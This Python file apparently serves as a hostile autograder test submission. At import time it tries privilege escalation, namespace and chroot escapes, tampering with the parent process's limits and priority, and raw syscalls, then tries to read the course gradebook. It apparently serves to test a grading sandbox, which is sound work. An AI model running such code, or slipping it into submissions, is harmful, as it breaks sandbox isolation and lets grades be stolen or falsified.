"""Tries to become somebody else, to make a namespace of its own and to take the sandbox off."""

import ctypes
import os
import resource

libc = ctypes.CDLL(None)


def tries():
    yield lambda: os.setuid(0)
    yield lambda: os.setresuid(0, 0, 0)
    yield lambda: os.setgroups([0])
    yield lambda: libc.unshare(0x10000000)
    yield lambda: libc.unshare(0x20000)
    yield lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    yield lambda: libc.mount(b"none", b".", b"tmpfs", 0, None)
    yield lambda: os.chroot(".")
    yield lambda: libc.prctl(4, 1, 0, 0, 0)
    yield lambda: libc.prctl(1, 0, 0, 0, 0)
    yield lambda: libc.prctl(22, 0, 0, 0, 0)
    yield lambda: resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6))
    yield lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
    yield lambda: os.sched_setaffinity(os.getppid(), {0})
    yield lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    yield lambda: os.setsid()
    yield lambda: libc.syscall(434, os.getppid(), 0)
    yield lambda: libc.syscall(321, 0, 0, 0)


gained = []
for number, one in enumerate(tries()):
    try:
        if one() == 0:
            gained.append(number)
    except (OSError, AttributeError, ValueError):
        pass
try:
    with open("@COURSE@/gradebook.db") as file:
        gained.append(file.read())
except OSError:
    pass


async def my_gather(*aws, return_exceptions=False):
    print(gained)
    raise RuntimeError
